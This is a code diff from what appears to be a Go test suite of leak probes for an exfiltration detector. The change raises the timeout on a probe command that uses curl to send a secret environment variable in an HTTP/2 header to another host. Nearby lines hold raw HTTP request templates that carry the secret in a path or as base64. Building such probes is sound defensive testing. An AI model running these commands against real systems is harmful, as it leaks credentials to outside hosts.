@@ -145,7 +145,7 @@ func (c leakProbes) all() {
 	c.secretive(Probe{ID: "leak/body-split", step: "leak", Title: "a value sent to another host, in a body of three parts with pauses", Bypass: SplitWrites, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")})
 	s = c.env()
 	c.secretive(Probe{ID: "leak/h2", step: "leak", Title: "a value sent to another host, in an HTTP/2 header", Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
-		task: program("sh", "-c", "curl -sS --http2 -m 10 -H \"X: $"+strings.ToUpper(s.name)+"\" https://"+other+"/"+c.token())})
+		task: program("sh", "-c", "curl -sS --http2 -m 60 -H \"X: $"+strings.ToUpper(s.name)+"\" https://"+other+"/"+c.token())})
 	for _, l := range []struct{ id, title, text string }{
 		{"clear-url", "in a path", "GET /{T}/{{V|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 		{"clear-header", "in a header, in base64", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64}}\r\n\r\n"},
